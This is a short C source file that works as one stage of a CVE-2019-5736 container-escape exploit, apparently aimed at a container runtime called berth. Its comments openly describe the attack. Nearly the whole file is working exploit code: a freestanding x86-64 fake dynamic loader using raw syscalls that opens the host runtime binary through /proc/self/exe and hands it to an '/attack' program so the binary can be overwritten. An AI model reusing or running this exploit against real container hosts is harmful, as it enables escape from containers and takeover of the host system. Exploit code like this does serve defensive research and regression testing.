// Stands in an image where its dynamic loader would be. When a container executes /proc/self/exe, or a script whose first
// line names that, the kernel executes the program that was about to start the container, with this as its loader. So it
// runs with one of berth's programs as /proc/self/exe, and hands that on to the attacker (CVE-2019-5736).
//
// No library: a C library's start would take the program's headers for its own.

#if defined(__x86_64__)
__asm__(".globl _start\n_start:\n xor %ebp, %ebp\n and $-16, %rsp\n call begin\n");
enum { kOpen = 2, kExecve = 59, kExit = 60 };
static long call(long number, const void* a, const void* b, const void* c) {
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return result;
}
#else
#error "the system calls of this machine are missing"
#endif

#define O_PATH 010000000

void begin(void) {
  static char target[] = "/proc/self/fd/0";
  static char* arguments[] = {"/attack", "program", target, 0};
  long program = call(kOpen, "/proc/self/exe", (void*)O_PATH, 0);
  target[sizeof target - 2] = (char)('0' + program);
  call(kExecve, arguments[0], arguments, arguments + 3);
  call(kExit, (void*)1, 0, 0);
}
